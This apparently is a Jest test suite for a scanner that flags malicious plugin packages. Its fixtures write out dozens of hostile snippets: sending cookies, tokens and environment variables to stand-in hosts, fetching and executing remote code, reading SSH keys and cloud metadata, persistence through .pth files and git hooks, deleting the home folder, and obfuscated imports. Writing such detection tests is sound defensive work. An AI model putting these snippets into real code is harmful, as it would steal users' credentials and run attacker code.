import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

type Files = string | Record<string, string | Buffer>;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-attacks-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Returns the most severe level of an archive's findings, which are sorted by level. */
async function levelOf(files: Files): Promise<string> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
  return (await analyseFile(path)).findings[0]?.level ?? 'none';
}

const node = (statement: string, imports = ''): string =>
  `${imports}\nclass A:\n    def run(self, x):\n        ${statement}\nNODE_CLASS_MAPPINGS = {"A": A}\n`;
const script = (text: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': text });

/** A source that exceeds the limit of the parser. */
const LONG_LITERALS = `from typing import Dict, List\n\n"""Some tags."""\n\nTAGS: Dict[str, List[str]] = {\n${'    "red (flag)": ["a red, \\"waving\\" flag", 1.5, None],  # a comment\n'.repeat(20_000)}}\n`;

const HERE = 'import os\nHERE = os.path.dirname(os.path.abspath(__file__))\n';
/** A request handler of the package. */
const handler = (statement: string): string =>
  `import requests, subprocess, sys\nfrom aiohttp import web\nfrom server import PromptServer\n@PromptServer.instance.routes.post("/a")\nasync def a(request):\n    ${statement}\n    return web.Response()\n`;

describe('the checks hold what a package hides or sends', () => {
  it.each<[string, Files]>([
    [
      'an archive that it unpacks at import',
      `${HERE}import tarfile\nwith tarfile.open(HERE + "/luts.dat") as a:\n    a.extractall(HERE)\n`,
    ],
    ['a zip archive', `${HERE}import zipfile\nzipfile.ZipFile(os.path.join(HERE, "a.bin")).extractall(HERE)\n`],
    [
      'one file of an archive',
      `${HERE}from zipfile import ZipFile as Z\nwith Z(HERE + "/a") as z: z.extract("a.py")\n`,
    ],
    ['an archive of another kind', `${HERE}import shutil\nshutil.unpack_archive(HERE + "/a", HERE, "zip")\n`],
    [
      'a theft in a script of 3 MB',
      {
        '__init__.py': '',
        'web/a.js': `${'// A comment.\n'.repeat(230_000)}fetch("https://e.example/?" + document.cookie);\n`,
      },
    ],
    ['characters without a shape', node(`self.text = "x${'\u{E0159}'.repeat(12)}"`)],
    ['such characters in a script', script(`const a = "x${'\u200B\u200C'.repeat(8)}";`)],
    [
      'a manager of processes elsewhere',
      'from multiprocessing.managers import BaseManager\nclass M(BaseManager): pass\nM(address=("e.example", 6000)).connect()\n',
    ],
    ['the cookies of a request', handler('requests.post("https://e.example/a", json=dict(request.cookies))')],
    ['its headers', handler('requests.post("https://e.example/a", json=dict(request.headers))')],
    ['one of its headers', handler('requests.post("https://e.example/a", data=request.headers["Authorization"])')],
    [
      'a cookie as a header',
      handler('requests.get("https://e.example/a", headers={"Cookie": request.headers.get("Cookie")})'),
    ],
    [
      'a package that a request names',
      handler('subprocess.run([sys.executable, "-m", "pip", "install", (await request.json())["name"]])'),
    ],
    [
      'a package that a script tells the host to install',
      script(
        'app.registerExtension({ name: "a", setup() { api.fetchApi("/customnode/install/git_url", { body: "a" }); } });',
      ),
    ],
    ['one that it queues', script('fetch("/api/manager/queue/install", { method: "POST", body: "a" });')],
    [
      'what the user entered in the nodes of a workflow',
      script(
        'setInterval(() => { const rows = app.graph._nodes.map((n) => n.widgets_values); navigator.sendBeacon("https://e.example/a", JSON.stringify(rows)); }, 6e4);',
      ),
    ],
    [
      'names that a table of letters translates',
      node(
        't = str.maketrans("nopqrstuvwxyzabcdefghijklm", "abcdefghijklmnopqrstuvwxyz"); getattr(__import__("bf".translate(t)), "flfgrz".translate(t))(x)',
      ),
    ],
    ['a module whose name has other characters at its ends', node('__import__("##os##".strip("#")).system(x)')],
    ['one with a prefix', node('__import__("py_os".removeprefix("py_")).system(x)')],
    ['one whose letters are sorted', node('__import__("".join(sorted("so"))).system(x)')],
    [
      'machine code in memory',
      node('m = mmap.mmap(-1, 99, prot=7); m.write(x); ctypes.CFUNCTYPE(None)(0)()', 'import ctypes, mmap'),
    ],
    ['the API of Python', node('ctypes.pythonapi.PyRun_SimpleString(x)', 'import ctypes')],
    [
      'another interpreter',
      node(
        'interpreters.run_string(0, requests.get("https://e.example/a").text)',
        'import requests, _xxsubinterpreters as interpreters',
      ),
    ],
    [
      'a path file whose ending is a constant of Python',
      {
        '__init__.py':
          'import os, sysconfig\nopen(os.path.join(sysconfig.get_path("purelib"), "a" + os.extsep + "pth"), "w").write("import os; os.system(1)")\n',
      },
    ],
    [
      'a path file that a node writes',
      node(
        'open(os.path.join(site.getsitepackages()[0], "a.pth"), "w").write("import os; os.system(1)")',
        'import os, site',
      ),
    ],
    [
      'a source that a node writes into another package',
      node(
        'open(os.path.join(folder_paths.base_path, "custom_nodes", "a.py"), "w").write(x)',
        'import folder_paths, os',
      ),
    ],
    [
      'one next to the own package',
      node('open(os.path.join(os.path.dirname(__file__), "..", "a.py"), "w").write(x)', 'import os'),
    ],
    [
      'what the host runs at its start',
      node('open(os.path.join(os.path.dirname(__file__), "prestartup_script.py"), "w").write(x)', 'import os'),
    ],
    [
      'an own source that a node fetches',
      node(
        '(Path(__file__).parent / "a.py").write_bytes(requests.get("https://e.example/a").content)',
        'import requests\nfrom pathlib import Path',
      ),
    ],
    [
      'a source that a node fetches and runs',
      node(
        'urllib.request.urlretrieve("https://e.example/a", "/tmp/a.py"); exec(open("/tmp/a.py").read())',
        'import urllib.request',
      ),
    ],
    [
      'one that it runs by its path',
      node(
        'urllib.request.urlretrieve("https://e.example/a", "/tmp/a.py"); runpy.run_path("/tmp/a.py")',
        'import runpy, urllib.request',
      ),
    ],
    [
      'the environment as bytes',
      node('requests.post("https://e.example/a", data=str(dict(os.environb)))', 'import os, requests'),
    ],
    [
      'that of the process',
      node('requests.post("https://e.example/a", data=open("/proc/self/environ").read())', 'import requests'),
    ],
    [
      'what a command says of it',
      node(
        'requests.post("https://e.example/a", data=subprocess.check_output(["env"]))',
        'import requests, subprocess',
      ),
    ],
    [
      'the environment by curl',
      node('subprocess.run(["curl", "-d", str(dict(os.environ)), "https://e.example/a"])', 'import os, subprocess'),
    ],
    [
      'the environment by another library',
      node('sender.push("https://e.example/a", dict(os.environ))', 'import os, sender'),
    ],
    [
      'credentials of the cloud',
      node('requests.get("http://169.254.169.254/latest/meta-data/iam/")', 'import requests'),
    ],
    ['a key that a command reads', node('subprocess.run(["cat", "/root/.ssh/id_rsa"])', 'import subprocess')],
    ['a token that a command writes', node('subprocess.run("gh auth token", shell=True)', 'import subprocess')],
    ['a decoded script in an address', script('location.href = "javascript:" + atob(k);')],
    [
      'a secret in the parameters of an address',
      script(
        'const u = new URL("https://e.example/a"); u.searchParams.set("k", document.cookie); new Image().src = u.href;',
      ),
    ],
    ['code from the address of the page', script('new Function(new URLSearchParams(location.search).get("x"))();')],
    ['machine code from elsewhere', script('WebAssembly.instantiateStreaming(fetch("https://e.example/m.wasm"));')],
  ])('%s', async (_name, files) => {
    expect(await levelOf(files)).toBe('hold');
  });

  it.each<[string, Files]>([
    [
      'a function with bound arguments that a node calls',
      'import requests\nfrom functools import partial\ndef ask(model, text): return requests.post("https://e.example/" + model, json=text)\ncaption = partial(ask, "caption")\nclass A:\n    def run(self, x): return caption(x)\nNODE_CLASS_MAPPINGS = {"A": A}\n',
    ],
    [
      'a table of functions that is sorted',
      'import requests\ndef probe(p): return requests.get("https://e.example/" + p)\nACTIONS = {"probe": probe}\nNAMES = sorted(ACTIONS)\nLONGEST = max(map(len, ACTIONS))\nBY_NAME = sorted(ACTIONS.items(), key=lambda pair: pair[0])\nclass A:\n    def run(self, x): return ACTIONS[x](x)\nNODE_CLASS_MAPPINGS = {"A": A}\n',
    ],
    [
      'weights that a node downloads',
      node(
        'urllib.request.urlretrieve("https://e.example/a.pth", "/tmp/a.pth"); torch.load("/tmp/a.pth", weights_only=True)',
        'import torch, urllib.request',
      ),
    ],
    [
      'a workflow that a node writes',
      node(
        'open(os.path.join(folder_paths.base_path, "custom_nodes", "a.json"), "w").write(x)',
        'import folder_paths, os',
      ),
    ],
    ['a name that a node trims', node('return getattr(self, x.strip("_"))')],
    [
      'an own address with parameters',
      script(
        'const u = new URL("/api/a", location.href); u.searchParams.set("k", localStorage.getItem("own.k")); fetch(u.href);',
      ),
    ],
    ['an archive that a node unpacks', node('zipfile.ZipFile(x).extractall("/tmp/a")', 'import zipfile')],
    [
      'an emoji, a flag and a word joiner',
      node('self.text = "❤️ 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} a\u2060b"'),
    ],
    [
      'a request that is passed on to a service with its key',
      handler(
        'requests.post("https://api.e.example/a", headers={"Authorization": request.headers.get("Authorization")}, json=await request.json())',
      ),
    ],
    [
      'a request that is passed on to the own computer',
      handler('requests.post("http://127.0.0.1:8188/a", cookies=request.cookies)'),
    ],
    [
      'a package that a click installs',
      script('button.addEventListener("click", () => fetch("/manager/queue/install", { method: "POST", body: "a" }));'),
    ],
    [
      'a workflow that a click shares',
      script(
        'button.addEventListener("click", () => fetch("https://e.example/share", { method: "POST", body: JSON.stringify(app.graph._nodes) }));',
      ),
    ],
    [
      'the number of nodes',
      script('app.graph.nodes.forEach((n) => { n.color = "#fff"; }); fetch("https://e.example/version");'),
    ],
  ])('but not %s', async (_name, files) => {
    expect(await levelOf(files)).not.toBe('hold');
  });
});

describe('the checks hold indirect ways to dangerous functions', () => {
  it.each<[string, Files]>([
    ['a default factory', 'import os, dataclasses\ndataclasses.field(default_factory=lambda: os.system("a"))\n'],
    ['a default of a dictionary', 'import os, collections\ncollections.defaultdict(lambda: os.system("a"))["x"]\n'],
    [
      'a default factory of attrs',
      'import os, attr\n@attr.s\nclass A: x = attr.ib(factory=lambda: os.system("a"))\nA()\n',
    ],
    [
      'a validator of pydantic',
      'import os\nfrom pydantic import BaseModel, field_validator\nclass A(BaseModel):\n    x: int\n    @field_validator("x")\n    def check(cls, x): os.system("a")\nA(x=1)\n',
    ],
    ['machine code of llvmlite', 'import llvmlite.binding as b\nb.load_library_permanently("/tmp/a.so")\n'],
    ['an environment with packages', 'import venv\nvenv.create("/tmp/a", with_pip=True)\n'],
    [
      'the cookies of a browser',
      'import os, shutil\nshutil.copy(os.path.expanduser("~/.config/google-chrome/Default/Cookies"), "a")\n',
    ],
    ['getattr in reduce', 'import os, functools\nfunctools.reduce(getattr, ["path", "os", "system"], os)("a")\n'],
    ['__getattribute__', 'import os\nos.__getattribute__("system")("a")\n'],
    ['object.__getattribute__', 'import os\nobject.__getattribute__(os, "system")("a")\n'],
    ['builtins of a frame', 'import sys\nsys._getframe().f_builtins["exec"]("a")\n'],
    ['globals of a function', 'import shutil\nshutil.copy.__globals__["os"].system("a")\n'],
    ['a loader', '__loader__.load_module("posix").system("a")\n'],
    ['all objects', 'import gc\n[x for x in gc.get_objects() if x][0]("a")\n'],
    ['a base class', 'import subprocess\nclass P(subprocess.Popen): pass\nP(["a"])\n'],
    [
      'a handler of log lines',
      'import logging, os\nclass H(logging.Handler):\n    def emit(self, r): os.system("a")\nH()\n',
    ],
    ['a hook of a parser', 'import json, os\njson.loads("{}", object_hook=lambda d: os.system("a"))\n'],
    ['a template', 'import jinja2\njinja2.Template("{{ x.__init__.__globals__.os }}").render()\n'],
    ['an annotation', 'import typing\ntyping.get_type_hints({"a": "__import__(\'os\').system(1)"})\n'],
    ['doctest', 'import doctest\ndoctest.testmod()\n'],
    ['the constructor of a constructor', script('[].constructor.constructor(atob("YQ=="))()')],
    [
      'a compiled file by its path',
      {
        '__init__.py':
          'import importlib.util as u\ns = u.spec_from_file_location("a", "__pycache__/a.cpython-310.pyc")\ns.loader.exec_module(u.module_from_spec(s))\n',
        '__pycache__/a.cpython-310.pyc': 'x',
      },
    ],
    [
      'a bound function',
      'from functools import partial\nimport os\ndef f(x): os.system(x)\ncall = partial(f, "a")\ncall()\n',
    ],
    [
      'a bound function of a thread',
      'from functools import partial\nimport os, threading\ndef f(x): os.system(x)\nthreading.Thread(target=partial(f, "a")).start()\n',
    ],
    [
      'the function of a bound one',
      'from functools import partial\nimport os\ndef f(): os.system("a")\npartial(f).func()\n',
    ],
    [
      'a bound command',
      node(
        'partial(f, "curl https://evil.example/x | sh")()',
        'import os\nfrom functools import partial\ndef f(c): os.system(c)',
      ),
    ],
    [
      'a text that split turns around',
      node('exec("".join(re.split("", ")\'di\'(metsys.)\'so\'(__tropmi__")[::-1]))', 'import re'),
    ],
    [
      'a bound function as a key',
      'from functools import partial\nimport os\ndef f(x): os.system(x)\nsorted([2, 1], key=partial(f))\n',
    ],
    [
      'a compiled copy that is not compared with its source',
      {
        '__init__.py': 'import a\n',
        'a.py': '',
        '__pycache__/a.cpython-311.pyc': Buffer.concat([Buffer.from('a70d0d0a01000000', 'hex'), Buffer.alloc(80)]),
      },
    ],
    [
      'a source that is no .py file',
      'import importlib.machinery as m\nm.SourceFileLoader("x", "a.txt").load_module()\n',
    ],
    ['an archive on the path', 'import sys\nsys.path.insert(0, "assets.dat")\nimport payload\n'],
    ['a variable that loads code', 'import os\nos.environ["LD_PRELOAD"] = "/tmp/a.so"\n'],
    ['a connection as terminal', node('os.dup2(socket.socket().fileno(), 0)', 'import os, socket')],
    [
      'own pickles at import',
      'import pickle, os\npickle.load(open(os.path.join(os.path.dirname(__file__), "a"), "rb"))\n',
    ],
    ['IS_CHANGED', 'import os\nclass A:\n    def IS_CHANGED(self, x): os.system(x)\nNODE_CLASS_MAPPINGS = {"A": A}\n'],
    [
      'define_schema',
      'import os\nclass A:\n    def define_schema(cls): os.system("a")\nNODE_CLASS_MAPPINGS = {"A": A}\n',
    ],
    [
      'a command out of a request',
      'import os\n@server.routes.post("/x")\nasync def f(r):\n    os.system((await r.json())["c"])\n',
    ],
    ['code out of a request', 'async def f(r):\n    exec(await r.text())\napp.router.add_post("/x", f)\n'],
    [
      'a program that is fetched and run',
      node(
        'g("https://e.example/a", "a.exe"); os.startfile("a.exe")',
        'import os\nfrom urllib.request import urlretrieve as g',
      ),
    ],
    [
      'a source that is fetched',
      node('open("/tmp/a.py", "w").write(requests.get("https://e.example/a").text)', 'import requests'),
    ],
    [
      'all variables of the environment',
      node('requests.post("https://e.example", json={**os.environ})', 'import os, requests'),
    ],
    [
      'the credential of another service',
      node('requests.get("https://e.example/?" + os.environ["HF_TOKEN"])', 'import os, requests'),
    ],
    ['a key by pathlib', node('(pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()', 'import pathlib')],
    ['all files of the user', 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n'],
    ['a hook of git', 'open("/home/a/.git/hooks/post-checkout", "w").write("a")\n'],
    [
      'a script that runs what it fetched',
      { '__init__.py': '', 'install.sh': 'wget https://e.example/a -O /tmp/a\n/tmp/a\n' },
    ],
    [
      'removing a package that is not well known',
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "uninstall", "-y", "some-scanner"])\n',
    ],
    [
      'another index after an equals sign',
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy", "--index-url=https://e.example"])\n',
    ],
    ['requirements from elsewhere', 'import os\nos.system("pip install -r https://e.example/requirements.txt")\n'],
    ['requirements of another folder', 'import os\nos.system("pip install -r /tmp/requirements.txt")\n'],
    ['an index in a variable', 'import os\nos.environ["PIP_INDEX_URL"] = "https://e.example"\n'],
    ['a whole response as code', node('exec(requests.get(x).text)', 'import requests')],
    ['the name of the computer', 'import os\nos.popen("hostname")\n'],
    [
      'installing the project in a folder',
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "."], cwd=".")\n',
    ],
    [
      'a well-known package in a folder that a file names',
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy"], cwd=open("a.txt").read())\n',
    ],
    [
      'a computed name after a well-known one',
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy", input()])\n',
    ],
    [
      'names of packages out of another file',
      'import os\nfor name in open(os.path.join(os.path.dirname(__file__), "a.txt")):\n    os.system(f"pip install {name}")\n',
    ],
    [
      'a name next to those of the requirements',
      {
        '__init__.py':
          'import os\nfor name in open(os.path.join(os.path.dirname(__file__), "requirements.txt")):\n    os.system(f"pip install {name} unknown-thing")\n',
        'requirements.txt': 'some-thing\n',
      },
    ],
    [
      'opening what it has fetched',
      node('os.startfile(requests.get("https://e.example/a").text)', 'import os, requests'),
    ],
    [
      'code from a fixed address',
      node(
        'exec(re.search("a(.*)", requests.post("https://e.example/a", json=x).text).group(1))',
        'import re, requests',
      ),
    ],
    [
      'code from an address in parts',
      node('exec(requests.get("https://" + ".".join(["e", "example"])).text)', 'import requests'),
    ],
    [
      'code from a repository of models',
      node('exec(open(hf_hub_download("a/b", "c.txt")).read())', 'from huggingface_hub import hf_hub_download'),
    ],
    [
      'code from a socket',
      node('s = socket.socket(); s.connect(("e.example", 9)); exec(s.recv(999))', 'import socket'),
    ],
    ['code from an address in a list', node('exec(requests.get(*["https://e.example"]).text)', 'import requests')],
    [
      'code from the address of a session',
      node('exec(httpx.Client(base_url="https://e.example").get("/a").text)', 'import httpx'),
    ],
    [
      'code from a file that a service of models stores',
      node('exec(requests.get("https://api.openai.com/v1/files/a/content").text)', 'import requests'),
    ],
    [
      'a credential for a host without a scheme',
      node(
        'http.client.HTTPSConnection("e.example.org").request("GET", "/" + os.environ["HF_TOKEN"])',
        'import os, http.client',
      ),
    ],
    [
      'a handler of log lines that sends them',
      'import logging, logging.handlers\nlogging.getLogger().addHandler(logging.handlers.HTTPHandler("e.example", "/a"))\n',
    ],
    ['a long source that calls', { '__init__.py': '', 'data.py': `${LONG_LITERALS}print(1)\n` }],
    ['a long source of encoded data', { '__init__.py': '', 'data.py': `${LONG_LITERALS}B = "${'Ab3'.repeat(100)}"\n` }],
    ['a script from elsewhere', script('import("https://e.example/a.js");')],
    ['a script element', script('s = document.createElement("script"); s.src = "https://e.example/a.js";')],
    ['a service worker', script('navigator.serviceWorker.register("/a.js");')],
    ['fetched code', script('fetch("https://e.example/a").then((r) => r.text()).then((t) => eval(t));')],
    [
      'a replaced fetch',
      script('const o = fetch; window.fetch = (a) => { navigator.sendBeacon("https://e.example", a); };'),
    ],
    ['a name in pieces', script('fetch("https://e.example/?" + window["local" + "Storage"].getItem("a"));')],
    ['a form', script('f.action = "https://e.example/"; i.value = document.cookie; f.submit();')],
  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
});

describe('the checks do not hold', () => {
  it.each<[string, Files]>([
    [
      'git in the own folder',
      'import subprocess, os\nsubprocess.check_output(["git", "-C", os.path.dirname(__file__), "rev-parse", "HEAD"])\n',
    ],
    [
      'a list of installed packages',
      'import subprocess, sys\nsubprocess.check_output([sys.executable, "-m", "pip", "freeze"])\n',
    ],
    [
      'installing what the requirements list',
      { '__init__.py': 'import pip\npip.main(["install", "Some_Thing"])\n', 'requirements.txt': 'some-thing>=1\n' },
    ],
    [
      'removing well-known packages',
      'import subprocess\nfrom shutil import which\nsubprocess.run([which("pip"), "show", "onnx"])\nsubprocess.run([which("pip"), "uninstall", "-y", "onnx"])\n',
    ],
    [
      'installing a well-known package by a function for commands',
      'import subprocess, sys\ndef run(cmd, cwd="."):\n    return subprocess.Popen(cmd, cwd=cwd, encoding="utf-8", errors="replace").wait()\nrun([sys.executable, "-m", "pip", "install", "jsonpatch"])\n',
    ],
    [
      'installing the names in its own requirements, one by one',
      {
        '__init__.py':
          'import os, sys\npath = os.path.join(os.path.dirname(__file__), "requirements.txt")\ndef install(name, action="install"):\n    os.system(f\'"{sys.executable}" -m pip {action} {name}\')\nwith open(path, "r", encoding="utf-8") as lines:\n    for line in lines.readlines():\n        install(line.strip())\n',
        'requirements.txt': 'some-thing\n',
      },
    ],
    ['a long source of readable literals', { '__init__.py': '', 'data.py': LONG_LITERALS }],
    [
      'a file of a request that is opened for the user',
      '@server.routes.post("/x")\nasync def f(r):\n    import os\n    os.startfile((await r.json())["path"])\n',
    ],
    [
      'code that a model answers',
      node(
        'exec(requests.post("https://api.openai.com/v1/chat/completions", json=x).json()["choices"][0])',
        'import requests',
      ),
    ],
    [
      'a part of what a server of the user answers',
      node('exec(requests.post(f"http://{x}:8080/v1/chat", json=x).json()["answer"])', 'import requests'),
    ],
    [
      'a credential in a call that names files',
      node(
        'urllib.request.urlopen(urllib.request.Request(x, data="a.json", headers={"a": os.environ["HF_TOKEN"]}))',
        'import os, urllib.request',
      ),
    ],
    ['compressed data', { '__init__.py': '', 'data/words.txt.gz': 'x', 'examples.zip': 'x' }],
    ['eval that a library keeps', 'from omegaconf import OmegaConf\nOmegaConf.register_new_resolver("eval", eval)\n'],
    ['a class of a configuration', node('getattr(importlib.import_module(x.module), x.name)()', 'import importlib')],
    [
      'a program for a file of a request',
      '@server.routes.post("/x")\nasync def f(r):\n    import subprocess\n    subprocess.run(["explorer.exe", r.query["p"]])\n',
    ],
    [
      'the key of the service that is called',
      node('requests.get("https://huggingface.co/api", headers={"a": os.environ["HF_TOKEN"]})', 'import os, requests'),
    ],
    ['a library from a public address', script('import("https://cdn.jsdelivr.net/npm/a.js");')],
    ['a system folder of Windows', 'import ctypes\nctypes.windll.kernel32.GetFileAttributesW("a")\n'],
    ['colours of a terminal', 'import os\nos.system("color")\nos.system("")\nos.system("cls")\n'],
    [
      'a request that opens the browser',
      '@server.routes.post("/x")\nasync def f(r):\n    import webbrowser\n    webbrowser.open(r.query["p"])\n',
    ],
    [
      'options of a script from a decoded image',
      node('subprocess.run(["python", "convert.py", "--text", base64.b64decode(x)])', 'import base64, subprocess'),
    ],
    [
      'expanded arguments next to a computed import',
      {
        '__init__.py': 'import importlib\nfor n in load(**{}): importlib.import_module(n, __package__)\n',
        'tests/deep/test_a.py': 'exec(compile("a", "b", "exec"))\n',
      },
    ],
    [
      'a function that is bound and never called',
      'from functools import partial\nimport requests\ndef f(x=1): requests.get("https://a.example.com/")\ncallback = partial(f)\n',
    ],
    ['a compiled copy of a source that was removed', { '__init__.py': '', '__pycache__/a.cpython-310.pyc': 'x' }],
    [
      'one of many files',
      `def load(path):\n    return open(path).read()\n${[1, 2, 3, 4, 5, 6].map((n) => `def f${n}(): load("config${n}.json")\n`).join('')}def g(): load(".aws/credentials")\n`,
    ],
  ])('%s', async (_what, files) => expect(['warn', 'note', 'none']).toContain(await levelOf(files)));
});
